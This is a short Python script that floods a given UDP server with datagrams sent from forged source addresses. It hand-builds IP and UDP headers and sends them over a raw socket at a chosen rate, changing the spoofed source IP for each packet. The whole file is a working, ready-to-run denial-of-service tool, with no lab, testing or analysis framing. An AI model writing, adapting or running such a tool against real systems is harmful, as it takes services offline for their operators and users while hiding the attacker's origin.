"""Floods a UDP server from forged addresses.

flood.py HOST PORT FIRST COUNT PER_SECOND

One datagram comes from each of COUNT addresses, which are FIRST and those behind it; 0 a second is as fast as it can.
Ends when they are through or when its input ends, and prints how many there were, and in how many seconds.
"""

import select
import socket
import struct
import sys
import time

# The most at once: less than what the buffer of a socket holds.
BATCH = 200
BATCHES_PER_SECOND = 200


def run(host, port, first, count, per_second):
    first = struct.unpack("!I", socket.inet_aton(first))[0]
    payload = b"flood"
    # As in forge.py.
    udp = struct.pack("!HHHH", 40000, port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, b"", socket.inet_aton(host))
    datagram = bytearray(ip + udp)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        sent, begin = 0, time.monotonic()
        while sent < count:
            due = int((time.monotonic() - begin) * per_second) if per_second else count
            until = min(due, sent + BATCH, count)
            for number in range(sent, until):
                struct.pack_into("!I", datagram, 12, first + number)
                raw.sendto(datagram, (host, 0))
            sent = max(sent, until)
            if select.select([sys.stdin], [], [], 1 / BATCHES_PER_SECOND if per_second else 0)[0]:
                break
        print(sent, time.monotonic() - begin)


run(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]))
